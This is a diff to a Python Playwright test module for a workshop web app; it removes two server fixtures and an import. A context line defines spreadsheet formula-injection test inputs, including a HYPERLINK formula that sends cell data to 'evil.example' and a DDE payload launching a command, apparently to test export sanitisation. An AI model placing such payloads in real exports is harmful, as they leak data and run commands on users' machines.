@@ -14,7 +14,6 @@ and look at what the big screen shows in Chromium (directly and through nginx).
 from __future__ import annotations
 
 import csv
-from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
@@ -22,7 +21,7 @@ from playwright.sync_api import Browser, BrowserContext, Page, expect
 from sqlalchemy import text
 
 from tests.support.paths import ROOT
-from tests.support.serving import Served, content_with_k, serving
+from tests.support.serving import Served
 from workshop.cli import main
 from workshop.content.keynote import load_content
 from workshop.content.live import load_live_content
@@ -42,22 +41,6 @@ FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", 
 LIMITS: Limits = load_content(ROOT / "data" / "en").settings.limits
 #: What a hidden Share button sends, and blanks a script could send.
 BLANKS = (("", ""), ("mantra", ""), ("mantra", " \u200b "), ("ingredient", "\t"))
-
-
-@pytest.fixture(params=["direct", "nginx"])
-def room(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Served]:
-    args = ["--content", str(content_with_k(tmp_path / "content", 2))]
-    if request.param == "nginx":
-        request.getfixturevalue("nginx")
-        args += ["--workers", "2"]
-    with serving(tmp_path, args) as served:
-        yield served
-
-
-@pytest.fixture
-def direct(tmp_path: Path) -> Iterator[Served]:
-    with serving(tmp_path, ["--content", str(content_with_k(tmp_path / "content", 2))]) as served:
-        yield served
 
 
 def show_the_wall(store: Store, code: str) -> None:
